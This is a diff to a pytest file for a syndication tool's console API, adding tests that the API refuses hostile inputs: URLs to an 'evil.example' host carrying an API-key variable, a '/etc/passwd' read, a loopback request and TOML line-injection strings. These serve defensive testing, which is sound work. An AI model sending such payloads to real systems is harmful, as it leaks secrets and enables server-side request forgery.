@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 
 from syndicator.console.api import server
-from syndicator.operations.registry import operations
+from syndicator.console.api.openapi import offered
 from tests.console.api.client import Answer, Client
 from tests.console.conftest import Browser, Served
 
@@ -73,12 +73,9 @@ def test_an_edit_is_made_of_what_was_shown_and_of_nothing_else(served: Served, w
 
 def test_a_token_that_reads_may_try_and_not_change(served: Served, reader: Client) -> None:
     id, before = article(reader)["id"], files(served)
-    for name in operations():
-        arguments = {"id": id, "name": "X", "words": "x", "old": "A", "new": "B", "number": "1"}
-        if operations()[name].is_question:
-            continue
-        assert do(reader, name, arguments).status == 403
-        assert do(reader, name, arguments, "?dry_run=false").status == 403
+    for name in (name for name, one in offered().items() if not one.is_question):
+        assert do(reader, name, {"id": id}).status == 403
+        assert do(reader, name, {"id": id}, "?dry_run=false").status == 403
     assert done(reader, "withdraw", {"id": id}, "?dry_run=true")["dry_run"]
     assert files(served) == before
 
@@ -126,7 +123,7 @@ def test_what_cannot_be_done_is_a_problem(writer: Client) -> None:
     assert writer.problem("POST", "/operations/nothing", "{}", **JSON)[0] == 404
     assert writer.problem("POST", "/operations/withdraw", '{"id": "nowhere"}', **JSON)[0] == 409
     assert writer.problem("POST", "/operations/withdraw?dry_run=perhaps", "{}", **JSON)[0] == 422
-    assert writer.problem("POST", "/operations/withdraw", '{"id": "x"}', **JSON, If_Match='"x"')[0] == 400
+    assert writer.problem("POST", "/operations/withdraw", '{"id": "x"}', **JSON, If_Match='"x"')[0] == 422
     assert writer.problem("POST", "/operations/undo", '{"number": "999999"}', **JSON)[0] == 409
 
 
@@ -163,6 +160,43 @@ def test_no_text_becomes_a_table_of_the_configuration(served: Served, writer: Cl
     assert {str(one["name"]) for one in after["tag"]} - known <= {text, text.strip(), " ".join(text.split())}
 
 
+@pytest.mark.parametrize(
+    ("name", "arguments", "status"),
+    [
+        ("add", {"url": ["https://evil.example/?k=${LLM_KEY}"]}, 409),
+        ("add", {"url": ["https://evil.example/?k=$%7BLLM_KEY%7D"]}, 409),
+        ("add", {"sources": [{"url": "https://evil.example/", "headers_env": {"x": "LLM_KEY"}}]}, 422),
+        ("change-source", {"key": "holt", "url": "https://evil.example/${LLM_KEY}"}, 409),
+        ("look", {"address": "https://evil.example/${LLM_KEY}"}, 409),
+        ("look", {"address": "/etc/passwd"}, 409),
+        ("follow-list", {"sources": [{"url": "https://evil.example/"}], "wrapper": "{}"}, 404),
+    ],
+)
+def test_no_program_has_variables_or_files_of_this_machine_sent(
+    served: Served, writer: Client, name: str, arguments: dict[str, Any], status: int
+) -> None:
+    before = files(served)
+    assert do(writer, name, arguments).status == status
+    assert files(served) == before
+
+
+def test_who_only_reads_reaches_no_private_network(reader: Client) -> None:
+    asked = {"address": f"http://127.0.0.1:{reader.port}/", "allow": ["127.0.0.1"]}
+    assert do(reader, "look", asked).status == 403
+
+
+@pytest.mark.parametrize("field", ["title", "category", "language", "mute", "every", "licence"])
+def test_no_field_of_a_source_becomes_another_line(served: Served, writer: Client, field: str) -> None:
+    path = served.instance.config / "sources.toml"
+    before = {one["key"]: one for one in tomllib.loads(path.read_text())["source"]}
+    for text in ('X"\nevil = true', 'X"\n[[source]]\nkey = "evil"\nurl = "https://evil.example/"', "X'''\nevil = 1"):
+        do(writer, "change-source", {"key": "holt", field: text})
+        after = {one["key"]: one for one in tomllib.loads(path.read_text())["source"]}
+        changed = after.pop("holt")
+        assert after == {key: one for key, one in before.items() if key != "holt"}
+        assert changed.keys() <= {*before["holt"], field}
+
+
 def test_an_edit_cannot_write_a_field_of_the_file(served: Served, writer: Client) -> None:
     id = article(writer, 2)["id"]
     done(writer, "edit", {"id": id, "title": "A\n---\nid: evil\nhold: true\n", "excerpt": "B\nhold: true"})
@@ -170,15 +204,22 @@ def test_an_edit_cannot_write_a_field_of_the_file(served: Served, writer: Client
     assert (found["id"], found["hold"]) == (id, False)
 
 
-def test_two_browsers_a_program_and_a_hand_lose_nothing(served: Served, browser: Browser, writer: Client) -> None:
-    path = served.instance.config / "taxonomy.toml"
-    other = served.browser()
-    done(writer, "add-tag", {"name": "Ferries"})
-    served.done(browser.post("/operations/add-tag", {"name": "Tides", "then": "apply"}))
-    path.write_text(path.read_text() + '\n[[tag]]\nname = "Harbours"  # by hand\n')
-    served.done(other.post("/operations/add-tag", {"name": "Piers", "then": "apply"}))
-    names = {one["name"] for one in tomllib.loads(path.read_text())["tag"]}
-    assert names >= {"Ferries", "Tides", "Harbours", "Piers"} and "# by hand" in path.read_text()
+def test_two_browsers_a_shell_and_a_program_edit_one_source_and_lose_nothing(
+    served: Served, browser: Browser, writer: Client
+) -> None:
+    path, other = served.instance.config / "sources.toml", served.browser()
+    shown = writer.ask("GET", "/sources/launchbeat").headers["etag"]
+    done(writer, "change-source", {"key": "launchbeat", "title": "Of the program"}, If_Match=shown)
+    served.done(browser.post("/operations/change-source", {"key": "launchbeat", "every": "2h", "then": "apply"}))
+    path.write_text(path.read_text().replace('"Of the program"', '"Of the program"  # by hand'))
+    served.done(other.post("/operations/change-source", {"key": "launchbeat", "tags": "Money", "then": "apply"}))
+    served.instance.run("change", "change-source", "launchbeat", "--language", "en")
+    late = json.dumps({"key": "launchbeat", "title": "Too late"})
+    assert writer.problem("POST", "/operations/change-source", late, **JSON, If_Match=shown)[0] == 412
+    [source] = [one for one in tomllib.loads(path.read_text())["source"] if one["key"] == "launchbeat"]
+    edited = {name: source[name] for name in ("title", "every", "tags", "language")}
+    assert edited == {"title": "Of the program", "every": "2h", "tags": ["Money"], "language": "en"}
+    assert "# by hand" in path.read_text()
 
 
 def test_the_word_of_a_refused_edit_is_that_of_the_operations() -> None:
